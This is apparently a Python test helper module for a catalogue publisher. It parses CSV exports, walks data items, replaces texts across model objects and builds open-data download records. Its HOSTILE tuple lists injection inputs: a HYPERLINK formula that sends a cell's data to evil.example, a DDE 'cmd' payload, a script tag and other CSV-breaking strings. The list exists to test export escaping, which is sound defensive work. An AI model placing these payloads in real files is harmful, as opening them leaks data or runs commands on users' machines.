"""Tables as a spreadsheet reads them, and catalogues whose every text is another."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import Any

from publisher.model.catalogue import Catalogue, DataItem
from publisher.model.imprint import Licence
from publisher.model.languages import Said, Text
from publisher.model.open_data import PUBLIC, Download, OpenDataset
from publisher.render.open_data import Opened

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Öppna")',
    "+358 44 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1\r\n=2",
    'a;=1;"=2";',
    'quoted "text", with a comma',
    "first\nsecond\u2028third",
    "a | b",
    "<script>alert('ä')</script>",
    "\ufeff=1",
    "",
)
"""Texts that break tables that are made carelessly."""


def read(table: bytes) -> list[dict[str, str]]:
    """The rows of a table, each by the names of the columns."""
    assert table.startswith(b"\xef\xbb\xbf")
    text = table.decode("utf-8-sig")
    assert text.count("\n") == text.count("\r\n") == text.count("\r")
    found = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    rows = list(found)
    assert all(None not in row and None not in row.values() for row in rows)
    return rows


def items(catalogue: Catalogue) -> list[DataItem]:
    """Every data item of a catalogue, at any depth, each before those under it."""
    found: list[DataItem] = []
    waiting = [item for r in reversed(catalogue.registers) for g in reversed(r.groups) for item in reversed(g.items)]
    while waiting:
        found.append(waiting.pop())
        waiting += reversed(found[-1].items)
    return found


def with_texts(thing: Any, change: Callable[[Said], Said]) -> Any:
    """A thing of the model with other texts."""
    if isinstance(thing, Said):
        return change(thing)
    if isinstance(thing, tuple):
        return tuple(with_texts(one, change) for one in thing)
    if is_dataclass(thing) and not isinstance(thing, type):
        return replace(thing, **{f.name: with_texts(getattr(thing, f.name), change) for f in fields(thing)})
    return thing


def opened(catalogue: Catalogue, licence: Licence | None = None) -> Opened:
    """What is open of a catalogue, with two files of its descriptions."""

    def download(name: str, form: str, media_type: str, file_type: str) -> Download:
        url = f"{catalogue.descriptions}.{name}"
        return Download(name, catalogue.title, catalogue.description, form, url, media_type, file_type, 1200, "00")

    downloads = (
        download("turtle", "Turtle", "text/turtle", "RDF_TURTLE"),
        download("csv-items", "CSV", "text/csv", "CSV"),
    )
    days = ("2026-03-02T10:00:00Z", "2026-03-03T10:00:00Z")
    title, document = catalogue.title, catalogue.descriptions.replace("/id/", "/")
    return Opened(
        catalogue, OpenDataset(catalogue.descriptions, document, title, title, (), Text(), downloads, *days, licence)
    )


def public(catalogue: Catalogue) -> Catalogue:
    """A catalogue whose every register is public."""
    opening = tuple(replace(one, access=replace(one.access, iri=PUBLIC)) for one in catalogue.registers)
    return replace(catalogue, registers=opening)
